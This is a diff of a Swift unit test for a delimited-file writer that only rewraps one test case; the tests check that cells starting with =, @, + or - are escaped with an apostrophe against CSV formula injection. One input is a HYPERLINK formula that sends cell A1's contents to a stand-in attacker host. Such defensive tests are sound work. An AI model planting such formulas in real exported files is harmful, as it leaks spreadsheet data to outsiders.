@@ -11,7 +11,8 @@ struct DelimitedWriterTests {
     }
 
     @Test(arguments: [
-        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
+        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
         ("@SUM(1+1)", "'@SUM(1+1)"),
         ("+1+1", "'+1+1"),
         ("-1+1", "'-1+1"),
